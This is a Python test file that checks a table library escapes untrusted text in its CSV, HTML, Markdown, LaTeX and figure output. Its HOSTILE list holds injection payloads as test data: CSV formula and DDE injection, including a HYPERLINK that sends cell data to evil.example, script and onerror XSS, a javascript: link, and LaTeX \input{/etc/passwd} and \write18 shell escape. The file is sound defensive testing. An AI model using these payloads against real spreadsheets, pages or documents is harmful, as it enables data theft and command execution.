"""Text from data is text in every form of a table, and never a formula, markup or a command."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

import numpy as np
import pytest
from figure_inputs import outputs, trained, written
from hypothesis import example, given, settings
from hypothesis import strategies as st

from iunet.artifacts import write_json
from iunet.escape import LATEX, csv_text, csv_value, latex_text, markdown_text
from iunet.figures.figure4 import draw, weight_rows
from iunet.figures.make import write_figure
from iunet.tables.document import VALUE, Cell, Column, Row, TableDocument, Value
from iunet.tables.render.forms import html_page, latex, markdown, tidy_rows
from iunet.tables.render.view import View, table_view

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>document.title = 'hacked'</script>",
    '<img src=x onerror="document.title = 1">',
    "</td></tr></table><h1>gone</h1>",
    "a | b",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "[a]: http://evil.example",
    "**bold** `code` _it_",
    "&lt;b&gt; &#60;",
    "[0pt] x",
    "* x",
    r"\input{/etc/passwd} $x_1^2$ % # ~ ^ {",
    r"\end{tabular}\immediate\write18{date}",
    "a\n\nb\r\nc",
    "\u202egpj.exe",
]
TEXT = st.sampled_from(HOSTILE) | st.text(max_size=12).filter(str.strip)
SOME = settings(max_examples=80, deadline=None, derandomize=True)


def table_of(text: str) -> TableDocument:
    return TableDocument(
        id="hostile",
        title=text,
        caption=text,
        row_header=["Dataset"],
        rows=[Row("r", [text], [text]), Row(f"{text}2", ["plain"])],
        columns=[Column("c", text), Column(f"{text}3", "plain")],
        metrics=[VALUE],
        default_metric=VALUE,
        cells={
            "r": {"c": Cell({VALUE: Value(text=text)}, notes=[text]), f"{text}3": Cell()},
            f"{text}2": {"c": Cell(missing=text), f"{text}3": Cell({VALUE: Value(1.5)})},
        },
        notes=[text],
    )


def view_of(text: str) -> View:
    return table_view(table_of(text).to_json())


# ---- CSV


@pytest.mark.parametrize("text", HOSTILE[:5])
def test_a_formula_gets_an_apostrophe(text):
    assert csv_value(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", ["-3.5", "+1e5", "-inf", "1", "a=b", "", "−3", "κ = 1", -3.5, None]
)
def test_numbers_and_other_text_stay(value):
    assert csv_value(value) == value


@SOME
@given(TEXT)
@example("\r=1+1")
@example("a\r=1+1")
def test_no_cell_of_a_csv_is_a_formula(text):
    """Neither in the header nor in the rows; and a cell comes back as it was but for the mark."""
    rows = tidy_rows(table_of(text).to_json())
    rows.append({**rows[0], "row": text})
    read = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    for cell in (cell for row in read for cell in row):
        if cell[:1] in tuple("=+-@\t\r\n") and cell[:1]:
            float(cell)
    lines = re.sub("\r\n?", "\n", text)
    assert read[-1][0] in (lines, f"'{lines}")
    (head, _) = csv.reader(io.StringIO(csv_text([{text: 1}]), newline=""))
    assert head in ([lines], [f"'{lines}"])


# ---- HTML


class Tags(HTMLParser):
    def __init__(self, page: str):
        super().__init__()
        self.found: list[str] = []
        self.attributes: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.found.append(tag)
        self.attributes |= {name for name, _ in attrs}


@SOME
@given(TEXT)
def test_html_has_the_tags_of_a_harmless_table(text):
    plain, hostile = (Tags(html_page(view_of(t))) for t in ("x", text))
    assert hostile.found == plain.found and hostile.attributes == plain.attributes


# ---- Markdown


@SOME
@given(TEXT)
def test_markdown_has_no_markup_of_its_own(text):
    written = markdown(view_of(text))
    assert not re.search(r"[<>]", written)
    rows = [line for line in written.splitlines() if line.startswith("|")]
    assert len({len(re.findall(r"(?<!\\)(?:\\\\)*\|", row)) for row in rows}) == 1
    escaped = markdown_text(text)
    assert "\n" not in escaped
    assert not re.search(r"(?<!\\)(?:\\\\)*\](?=[(\[:])", escaped)  # no link, and no target of one
    assert not re.search(r"(?<!\\)(?:\\\\)*[`*]", escaped)


def test_markdown_leaves_names_readable():
    assert markdown_text("mlp_tab, κ = 0.25 (±1) [a] 5 % & more") == (
        "mlp_tab, κ = 0.25 (±1) [a] 5 % & more"
    )


# ---- LaTeX


@SOME
@given(TEXT)
def test_latex_is_text(text):
    """No command of the text's own, braces that close, and no row that begins as an option."""
    escaped = latex_text(text)
    commands = set(re.findall(r"\\[a-zA-Z]+", escaped))
    assert commands <= set(re.findall(r"\\[a-zA-Z]+", "".join(LATEX.values())))
    depth = 0
    for character in re.sub(r"\\[{}]", "", escaped):
        depth += (character == "{") - (character == "}")
        assert depth >= 0
    assert depth == 0
    plain = re.sub(r"\\.", "", re.sub(r"\$[^$]*\$", "", escaped))
    assert not re.search(r"[%#&~^_]", plain)
    for line in latex(view_of(text)).splitlines():
        assert not re.match(r"[\[*]", line)


# ---- figures


def test_a_figure_draws_any_text(tmp_path):
    """Matplotlib would read dollars as a formula, and fail on one that is none."""
    texts = [*HOSTILE, r"$\frac{$", "$x"]
    supernet = trained(tmp_path, "arrhythmia", "iunet", np.ones((4, len(texts))))
    groups = [{"column": text, "start": i, "stop": i + 1} for i, text in enumerate(texts)]
    write_json(supernet["files"]["preprocessing"], {"groups": groups})
    rows = weight_rows([supernet])
    write_figure(draw(rows), rows, outputs(tmp_path))
    features = {row["feature"] for row in written(outputs(tmp_path)) if row["feature"]}
    assert features == {re.sub("\r\n?", "\n", csv_value(text)) for text in texts}
